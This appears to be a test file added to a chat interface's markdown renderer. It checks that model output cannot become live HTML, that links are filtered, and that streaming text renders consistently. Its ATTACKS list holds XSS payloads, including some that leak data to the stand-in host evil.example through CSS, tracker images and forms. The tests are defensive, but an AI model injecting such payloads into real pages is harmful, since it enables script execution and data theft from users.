@@ -1,0 +1,98 @@
+/** What a model writes, as the page shows it: text, and markup of ours alone. */
+import { fireEvent, render } from "@testing-library/svelte";
+import { describe, expect, it } from "vitest";
+import { Growing, closed } from "../src/features/chat/markdown/blocks";
+import BlockView from "../src/features/chat/markdown/BlockView.svelte";
+import { pieces } from "../src/features/chat/markdown/highlight";
+import { resolved, safeLink } from "../src/features/chat/markdown/links";
+
+function shown(text: string, opened: string[] = []): HTMLElement {
+  const box = document.createElement("div");
+  document.body.append(box);
+  for (const { token } of new Growing().read(text, false)) render(BlockView, { target: box, props: { token, onLink: (url: string) => opened.push(url) } });
+  return box;
+}
+
+const ATTACKS = [
+  "<img src=x onerror=alert(1)>",
+  "[click](javascript:alert(1))",
+  "[click](vbscript:msgbox(1))",
+  "[click](data:text/html,<script>alert(1)</script>)",
+  "<svg onload=alert(1)><script>alert(1)</script></svg>",
+  "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
+  "<iframe src=https://evil.example></iframe>",
+  "<form action=https://evil.example><input name=key></form>",
+  "<style>body { background: url(https://evil.example/?leak) }</style>",
+  "![tracker](https://evil.example/?secret=1)",
+  "[a](&#106;avascript:alert(1)) <a href=\"java\tscript:alert(1)\">b</a>",
+];
+
+describe("nothing of the text becomes markup", () => {
+  it.each(ATTACKS)("%s", (attack) => {
+    const opened: string[] = [];
+    const box = shown(`before ${attack} after\n\n${attack}`, opened);
+    expect(box.querySelectorAll("img, script, iframe, style, form, input, math, object, a[href], [src], [onerror], [onload]")).toHaveLength(0);
+    for (const element of box.querySelectorAll("svg")) expect(element.getAttribute("class")).toContain("lucide");
+    box.querySelectorAll<HTMLElement>("[role='link']").forEach((link) => link.click());
+    expect(opened.filter((url) => !/^(https?|mailto):/.test(url))).toEqual([]);
+    expect(box.textContent).toContain("before");
+  });
+  it("raw HTML is there to be read", () => {
+    expect(shown("a <b onclick=x>bold</b> word").textContent).toContain("<b onclick=x>bold</b>");
+  });
+  it("an image is its words and where it is, and is not fetched", () => {
+    const box = shown("![the picture](https://example.org/a.png)");
+    expect(box.textContent).toContain("the picture");
+    expect(box.textContent).toContain("example.org");
+  });
+  it("a link is handed on to be asked about", async () => {
+    const opened: string[] = [];
+    const box = shown("see [the guide](https://example.org/guide)", opened);
+    await fireEvent.keyDown(box.querySelector("[role='link']")!, { key: "Enter" });
+    expect(opened).toEqual(["https://example.org/guide"]);
+    expect(safeLink("//example.org")).toBeNull();
+  });
+  it("character references are characters", () => {
+    expect(resolved("a &lt;b&gt; &#38; &#x2192; &nope;")).toBe("a <b> & → &nope;");
+  });
+});
+
+describe("a text that grows", () => {
+  it("keeps the blocks that are settled, and comes to the same as read at once", () => {
+    const text = "# One\n\nTwo *three*\n\n- a\n- b\n\n```toml\nx = 1\n\ny = 2\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nEnd **bold**.\n\nSetext\n===\n";
+    const growing = new Growing();
+    let before = growing.read("", true);
+    for (let at = 1; at <= text.length; at++) {
+      const now = growing.read(text.slice(0, at), true);
+      if (before.length > 4) expect(now[0]).toBe(before[0]);
+      before = now;
+    }
+    expect(growing.read(text, false).map((one) => one.token)).toEqual(new Growing().read(text, false).map((one) => one.token));
+    expect(before.slice(0, -2).map((one) => [one.at, one.raw])).toEqual(growing.read(text, false).slice(0, before.length - 2).map((one) => [one.at, one.raw]));
+  });
+  it.each([
+    ["so **bold", "so **bold**"],
+    ["so **bold*", "so **bold***"],
+    ["so **", "so "],
+    ["a `code", "a `code`"],
+    ["a `", "a "],
+    ["see [the gui", "see the gui"],
+    ["see [the guide](https://exa", "see the guide"],
+    ["![pic](https://exa", ""],
+    ["done **bold** and `code`", "done **bold** and `code`"],
+    ["```py\nx = `a", "```py\nx = `a"],
+  ])("%j is shown as %j", (text, expected) => {
+    expect(closed(text)).toBe(expected);
+  });
+});
+
+describe("code", () => {
+  it("keeps every character, whatever its colour", () => {
+    const code = "[[modes]]\nname = \"<b>\" # x";
+    const found = pieces(code, "toml");
+    expect(found.map((one) => one.text).join("")).toBe(code);
+    expect(found.find((one) => one.text.includes("<b>"))?.kind).toBe("string");
+    expect(pieces(code, "klingon")).toEqual([{ text: code, kind: "" }]);
+    expect(pieces(code, "constructor")).toHaveLength(1);
+  });
+});
